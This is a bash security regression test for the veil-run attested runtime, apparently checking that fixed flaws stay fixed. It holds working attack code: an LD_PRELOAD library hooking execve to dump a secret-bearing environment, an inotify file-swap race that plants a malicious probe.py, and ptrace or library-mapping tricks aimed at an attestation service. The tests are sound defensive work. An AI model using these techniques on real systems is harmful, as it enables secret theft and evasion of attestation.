#!/usr/bin/env bash
# Attacks on veil-run's start (issue 9, C1 and H2), each performed for real
# against veil-las, veil-cas and veil-run on loopback; every scenario expects
# the attack to fail. Root (mount namespaces, /python). Usage:
# attack_runtime.sh BUILD_DIR
#
# Seen against the code before the fix (commit 1c7cc1f, 2026-12-01):
# - C1: an LD_PRELOAD library hooking execvpe, named by the host in veil-run's
#   environment, wrote API_PASSWORD=<the generated password> to a file (its
#   SHA-256 was the one the genuine program printed); veil-las signed
#   evidence for python3 (a dynamically linked executable), for a static
#   program that had mapped an executable file named lib.so, and for one
#   traced by its child (PTRACE_SEIZE).
# - H2: a watcher (inotify, IN_CLOSE_NOWRITE) that renamed another probe.py
#   over the genuine one right after veil-run had hashed it won 5 of 5 races:
#   the attacker's code ran with the secret. A start without CAP_SYS_ADMIN ran
#   from the host's folder.
set -u
BUILD=$(realpath "$1")
VEIL=$BUILD/veil
ROOT=${VEIL_SOURCE_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
# veil apply builds each service's image too; with no registry here its base is
# "scratch" (veil's layers alone: docs/images.md)
export VEIL_BASE=scratch
WORK=$(mktemp -d)
PORT=$((20000 + RANDOM % 20000))
URL=https://127.0.0.1:$PORT
RACES=${RACES:-5}
PW_SHA=unset
export VEIL_HOME=$WORK/home
pids=()
made_python=
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	[ -n "$made_python" ] && rmdir /python 2>/dev/null
	rm -rf "$WORK"
}
trap cleanup EXIT
. "$ROOT/tests/e2e/lib.sh"

# veil-run as a pod would run it: only the SCONE_* settings, the files at /python
start_service() { # [extra env or a command prefix...]
	unshare -m --propagation private bash -c '
		mount --bind "$1" /python || exit 97
		shift
		exec env -i "$@"' _ "${FILES:-$WORK/files}" \
		SCONE_CONFIG_ID=${CONFIG_ID:-attack/app} SCONE_CAS_ADDR=${CAS_ADDR:-127.0.0.1:$PORT} \
		SCONE_LAS_ADDR="$WORK/las.sock" VEIL_CAS_KEY="$CAS_KEY" VEIL_IMAGE_ROOT="$(test_image_root)" "$@" "$BUILD/veil-run"
}

# the probe prints the SHA-256 of its password (the ground truth) and how
# /python is mounted as it sees it
make_probe() {
	cat >"$WORK/files/probe.py" <<'PY'
import hashlib, os
print("PW sha256", hashlib.sha256(os.environ["API_PASSWORD"].encode()).hexdigest())
for line in open("/proc/self/mountinfo"):
    f = line.split()
    if f[4] == "/python":
        print("pwd mount", f[f.index("-") + 1], f[5].split(",")[0])
PY
}

policy() { # namespace [tolerate...]
	local tol=
	[ $# -gt 1 ] && tol=", tolerate: [$(
		IFS=,
		echo "${*:2}"
	)]"
	printf 'apiVersion: veil/v1\nkind: mesh\ncas:\n  - {name: cas, cas_url: 127.0.0.1, tolerance: "--only_for_testing-trust-any --only_for_testing-debug --only_for_testing-ignore-signer"}\npolicy: {namespace: %s%s}\nservices:\n  - {name: app, image: "veil.test/attack:1"}\n' "$1" "$tol" >"$WORK/app/Meshfile"
	(cd "$WORK/app" && "$VEIL" apply -f Meshfile --mode debug --cas "$URL" >/dev/null)
}

t_setup() {
	[ "$(id -u)" = 0 ] || die "needs root for the mount namespace" || return 1
	command -v cc >/dev/null && command -v readelf >/dev/null || die "needs cc and readelf" || return 1
	if [ ! -d /python ]; then mkdir /python && made_python=1; fi
	"$BUILD/veil-las" --socket "$WORK/las.sock" --data "$WORK/las" >"$WORK/las.out" 2>"$WORK/las.err" &
	pids+=($!)
	wait_for "$WORK/las.out" "platform key hash" || die "veil-las did not start" || return 1
	"$BUILD/veil-cas" --init --data "$WORK/cas" --listen "127.0.0.1:$PORT" --threads 2 \
		--trust-platform "$("$BUILD/veil-las" --print-key-hash --data "$WORK/las")" >"$WORK/cas.out" 2>"$WORK/cas.err" &
	pids+=($!)
	wait_for "$WORK/cas.out" "key hash" || die "veil-cas did not start" || return 1
	CAS_KEY=$("$BUILD/veil-cas" --print-key-hash --data "$WORK/cas")
	mkdir -p "$WORK/files" "$WORK/app" "$WORK/evil" || return 1
	make_probe
	cp "$WORK/files/probe.py" "$WORK/app/" || return 1
	cat >"$WORK/app/service.yaml" <<'YML'
apiVersion: veil/v1
kind: genservice
environment:
  local:
    - name: API_PASSWORD
      value: "$$SCONE::password$$"
secrets:
  local:
    - name: password
      kind: ascii
      size: 10
build:
  name: attack
  to: veil.test/attack:1
  pwd: /python
  command: python3 probe.py
  copy:
    - probe.py
YML
	(cd "$WORK/app" && VEIL_RUNTIME=$BUILD/veil-run "$VEIL" apply -f service.yaml --no-push >/dev/null) || return 1
	policy attack || return 1
	run start_service && ok && has "PW sha256" || return 1
	PW_SHA=$(grep '^PW sha256' <<<"$out")
}

# ---- C1: nothing the host names is loaded into veil-run ----

t_c1_runtime_has_no_loader() {
	run readelf -lW "$BUILD/veil-run" && ok || return 1
	lacks "INTERP" || die "veil-run has a program interpreter (dynamic loader)" || return 1
	run readelf -dW "$BUILD/veil-run" && ok || return 1
	lacks "(NEEDED)" || die "veil-run needs shared libraries: $(grep NEEDED <<<"$out")"
}

t_c1_ld_preload_gets_nothing() {
	cat >"$WORK/hook.c" <<'C'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <unistd.h>
static void steal(char *const envp[])
{
	FILE *f = fopen(STOLEN, "a");
	for (size_t i = 0; f && envp && envp[i]; i++)
		fprintf(f, "%s\n", envp[i]);
	if (f)
		fclose(f);
}
int execvpe(const char *file, char *const argv[], char *const envp[])
{
	steal(envp);
	int (*real)(const char *, char *const[], char *const[]) = dlsym(RTLD_NEXT, "execvpe");
	return real(file, argv, envp);
}
int execve(const char *file, char *const argv[], char *const envp[])
{
	steal(envp);
	int (*real)(const char *, char *const[], char *const[]) = dlsym(RTLD_NEXT, "execve");
	return real(file, argv, envp);
}
C
	cc -shared -fPIC -DSTOLEN="\"$WORK/stolen\"" -o "$WORK/hook.so" "$WORK/hook.c" -ldl || return 1
	rm -f "$WORK/stolen"
	run start_service LD_PRELOAD="$WORK/hook.so" && ok && has "$PW_SHA" || return 1
	if [ -s "$WORK/stolen" ]; then
		local pw
		pw=$(sed -n 's/^API_PASSWORD=//p' "$WORK/stolen")
		die "the preloaded library got the environment: API_PASSWORD of ${#pw} characters," \
			"sha256 $(printf %s "$pw" | sha256sum | cut -c1-16)... (the program's: ${PW_SHA#PW sha256 })"
		return 1
	fi
}

# a static helper asks veil-las for evidence, optionally after mapping a file
las_client() {
	cat >"$WORK/lasc.c" <<'C'
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	int p[2], q[2];
	if (argc > 2 && !strcmp(argv[2], "--traced")) { /* a child traces us (PTRACE_SEIZE: no stop) */
		pid_t parent = getpid();
		prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
		if (pipe(p) || pipe(q))
			return 2;
		if (fork() == 0) {
			close(q[1]);
			char c = ptrace(PTRACE_SEIZE, parent, 0, 0) ? 'n' : 'y';
			write(p[1], &c, 1);
			read(q[0], &c, 1); /* until the parent's exit closes q: then detach */
			return 0;
		}
		close(q[0]);
		char c = 0;
		if (read(p[0], &c, 1) != 1 || c != 'y')
			return fputs("cannot trace\n", stderr), 2;
	} else if (argc > 2) { /* map this file executable, as a loader maps a library */
		int lib = open(argv[2], O_RDONLY);
		if (lib < 0 || mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, lib, 0) == MAP_FAILED)
			return perror(argv[2]), 2;
	}
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[1]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return perror("connect"), 2;
	char req[128] = "REPORT ", buf[8192], nonce[64];
	memset(req + 7, '0', 64);
	int len = 71 + snprintf(req + 71, sizeof(req) - 71, " myPythonApp/pythonapp\n");
	write(fd, req, (size_t)len);
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	/* answer veil-las's challenge: this process is the one it measured */
	if (sscanf(buf, "CHALLENGE %32s", nonce) == 1) {
		len = snprintf(req, sizeof(req), "RESPONSE %s\n", nonce);
		write(fd, req, (size_t)len);
		ssize_t got = 0;
		while ((n = read(fd, buf + got, sizeof(buf) - 1 - (size_t)got)) > 0)
			got += n;
		buf[got] = '\0';
	}
	fputs(buf, stdout);
	return strncmp(buf, "ERROR", 5) ? 0 : 1;
}
C
	cc -static-pie -O1 -o "$WORK/lasc" "$WORK/lasc.c"
}

t_c1_las_refuses_dynamic_caller() {
	# python3 has a program interpreter: whatever LD_PRELOAD names runs in it
	run python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
s.sendall(b"REPORT " + b"0" * 64 + b" myPythonApp/pythonapp\n")
print(s.recv(65536).decode())' "$WORK/las.sock" && ok || return 1
	has "ERROR" && has "has a program interpreter" || return 1
}

t_c1_las_refuses_mapped_library() {
	las_client || return 1
	printf 'not really code' >"$WORK/lib.so"
	cp "$WORK/lib.so" "$WORK/plugin.bin"
	run "$WORK/lasc" "$WORK/las.sock" && ok && has measurement || die "a static caller got no evidence" || return 1
	run "$WORK/lasc" "$WORK/las.sock" "$WORK/lib.so" && rejected && has "maps the library $WORK/lib.so" || return 1
	# an executable mapping under any name is code the measurement does not cover
	run "$WORK/lasc" "$WORK/las.sock" "$WORK/plugin.bin" && rejected && has "maps the library $WORK/plugin.bin" || return 1
	# a tracer can write any code into its tracee
	run "$WORK/lasc" "$WORK/las.sock" --traced && rejected && has "the caller is being traced by pid"
}

# the static runtime still resolves names (/etc/hosts, DNS) without NSS modules
t_c1_cas_by_name() {
	grep -qw localhost /etc/hosts || die "/etc/hosts names no localhost" || return 1
	CAS_ADDR=localhost:$PORT run start_service && ok && has "$PW_SHA" || return 1
	CAS_ADDR=no-such-host.invalid:$PORT run start_service SCONE_LOG=debug && rejected || return 1
	has "cannot resolve the CAS address no-such-host.invalid:$PORT"
}

# ---- H2: what was verified is what runs ----

t_h2_swapped_file_never_runs() {
	cat >"$WORK/swapper.c" <<'C'
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>
/* swapper DIR NAME REPLACEMENT: once NAME in DIR was read and closed (veil-run
 * hashed it), rename REPLACEMENT over it */
int main(int argc, char **argv)
{
	int in = inotify_init1(0);
	if (in < 0 || inotify_add_watch(in, argv[1], IN_CLOSE_NOWRITE) < 0)
		return perror("inotify"), 2;
	puts("ready");
	fflush(stdout);
	char buf[4096] __attribute__((aligned(8)));
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		for (char *p = buf; n > 0 && p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if (e->len && !strcmp(e->name, argv[2])) {
				char to[4096];
				snprintf(to, sizeof(to), "%s/%s", argv[1], argv[2]);
				return rename(argv[3], to) ? (perror("rename"), 2) : 0;
			}
			p += sizeof(*e) + e->len;
		}
	}
}
C
	cc -O1 -o "$WORK/swapper" "$WORK/swapper.c" || return 1
	local wins=0 i evil_sha
	for i in $(seq "$RACES"); do
		make_probe
		printf 'import hashlib, os\nprint("STOLEN", hashlib.sha256(os.environ["API_PASSWORD"].encode()).hexdigest())\n' >"$WORK/evil/probe.py"
		"$WORK/swapper" "$WORK/files" probe.py "$WORK/evil/probe.py" >"$WORK/swapper.out" 2>&1 &
		local sw=$!
		wait_for "$WORK/swapper.out" ready || die "the watcher did not start" || return 1
		run start_service
		kill "$sw" 2>/dev/null
		wait "$sw" 2>/dev/null
		if grep -q "^STOLEN" <<<"$out"; then
			evil_sha=$(sed -n 's/^STOLEN //p' <<<"$out")
			[ "PW sha256 $evil_sha" = "$PW_SHA" ] && wins=$((wins + 1))
		else
			has "$PW_SHA" || return 1
		fi
	done
	make_probe
	echo "    H2 race: the attacker's file ran with the secret $wins of $RACES times"
	[ "$wins" = 0 ] || die "the swapped file ran with the secret $wins of $RACES times"
}

t_h2_pwd_is_a_private_read_only_copy() {
	run start_service && ok && has "$PW_SHA" && has "pwd mount tmpfs ro" || return 1
	# the host's folder is not what the program sees
	make_probe
}

t_h2_unpinned_start_refused_by_default() {
	run start_service setpriv --bounding-set=-sys_admin --inh-caps=-sys_admin && rejected || return 1
	has "cannot pin the protected folder /python" && has "insecure-unpinned-files" && lacks "PW sha256" || return 1
	# the CAS released the configuration; veil-run's refusal is in its audit log too
	tail -1 "$WORK/cas/audit.log" | grep -qF '"event":"start-refused","namespace":"attack"' &&
		tail -1 "$WORK/cas/audit.log" | grep -qF 'app: the attested runtime refused to start: cannot pin the protected folder /python (no private mount namespace: ' ||
		die "no start-refused entry: $(tail -2 "$WORK/cas/audit.log")" || return 1
	# the policy's explicit consent, attested with it, allows an unpinned start
	policy attack insecure-unpinned-files || return 1
	run start_service setpriv --bounding-set=-sys_admin --inh-caps=-sys_admin && ok && has "$PW_SHA" || return 1
	has "warning: the protected folder /python is not pinned" || return 1
	policy attack
}

run_in_order attack_runtime t_setup t_c1_runtime_has_no_loader t_c1_ld_preload_gets_nothing \
	t_c1_las_refuses_dynamic_caller t_c1_las_refuses_mapped_library t_c1_cas_by_name \
	t_h2_swapped_file_never_runs t_h2_pwd_is_a_private_read_only_copy \
	t_h2_unpinned_start_refused_by_default
